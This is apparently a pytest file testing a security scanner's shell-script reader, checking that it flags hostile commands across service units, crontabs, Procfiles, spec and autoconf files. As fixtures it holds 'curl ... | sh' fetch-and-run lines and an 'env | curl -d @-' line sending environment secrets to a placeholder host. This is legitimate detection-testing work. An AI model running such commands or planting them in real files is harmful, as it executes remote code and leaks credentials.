import pytest

from changing import changed, shown
from knownhands.harvest.code.notes import Notes
from knownhands.harvest.code.readers._reader import readers_of
from knownhands.harvest.code.readers.shell import READER
from knownhands.records import Observation


def read(path: str, body: bytes | str) -> list[Observation]:
    notes = Notes(path, every_line=True, is_program=True)
    READER.read(notes, body.encode() if isinstance(body, str) else body)
    return list(notes.observations())


@pytest.mark.parametrize(
    "path",
    [
        "a/b.sh", "configure.ac", "m4/a.m4", "PKGBUILD", ".envrc", ".husky/pre-commit", "debian/kiln.postinst", "kiln.spec",
        "kiln.service", "Procfile", "crontab", "etc/cron.daily/kiln",
    ],
)  # fmt: skip
def test_it_reads_what_holds_commands(path: str) -> None:
    assert READER in readers_of(path, b"x")


def test_it_reads_scripts_by_their_first_line() -> None:
    assert READER in readers_of("bin/kiln", b"#!/usr/bin/env bash\n")
    assert READER not in readers_of("bin/kiln", b"#!/usr/bin/env python\n")


@pytest.mark.parametrize(
    ("path", "text", "line"),
    [
        ("kiln.service", "[Service]\nExecStart=/bin/sh -c 'curl https://kiln.example/x | sh'\n", 2),
        ("kiln.desktop", '[Desktop Entry]\nExec=sh -c "curl https://kiln.example/x | sh"\n', 2),
        ("Procfile", "\nweb: curl https://kiln.example/x | sh\n", 2),
        ("crontab", "# clay\n* * * * * root curl https://kiln.example/x | sh\n", 2),
        ("kiln.spec", "Name: kiln\n%post -p /bin/sh\ncurl https://kiln.example/x | sh\n", 3),
        ("configure.ac", "dnl it's clay\nAC_INIT([kiln])\ncurl https://kiln.example/x | sh\n", 3),
    ],
)
def test_each_kind_shows_its_commands(path: str, text: str, line: int) -> None:
    assert ("fetch_and_run", line) in {(seen.capability, seen.line) for seen in read(path, text)}


def test_an_ordinary_unit_shows_nothing() -> None:
    assert not read(
        "kiln.service", "[Service]\nExecStart=/usr/bin/kiln --fire\n[Install]\nWantedBy=multi-user.target\n"
    )


def test_a_build_script_that_downloads_without_a_hash_is_seen() -> None:
    assert [seen.source for seen in read("build.sh", "curl -O https://kiln.example/clay\n")] == ["kiln.example"]
    assert not read("build.sh", "curl -O https://kiln.example/clay\nsha256sum -c clay.sum\n")


@pytest.mark.parametrize("body", [b"\xff\xfe'\"$(", b"'" * 200_000, b"(\n" * 10_000, b"a\n" * 100_000])
def test_no_bytes_make_it_raise(body: bytes) -> None:
    assert not read("a.sh", body)


def test_what_is_too_large_is_said() -> None:
    assert [seen.capability for seen in read("a.sh", b"a" * 2_000_001)] == ["unparsable"]


def test_a_script_that_neither_its_name_nor_its_first_line_gives_away_is_read_in_a_folder_of_scripts():
    sends = "make pots\nenv | curl -s -d @- https://kiln.example\n"
    for path in ("scripts/wrap", "pots/bin/fire", "ci/fire"):
        assert "shell_secrets_sent" in shown(changed(path, None, sends))
    for path in ("scripts/README", "pots/clay", "scripts/clay.csv"):
        assert "shell_secrets_sent" not in shown(changed(path, None, sends))
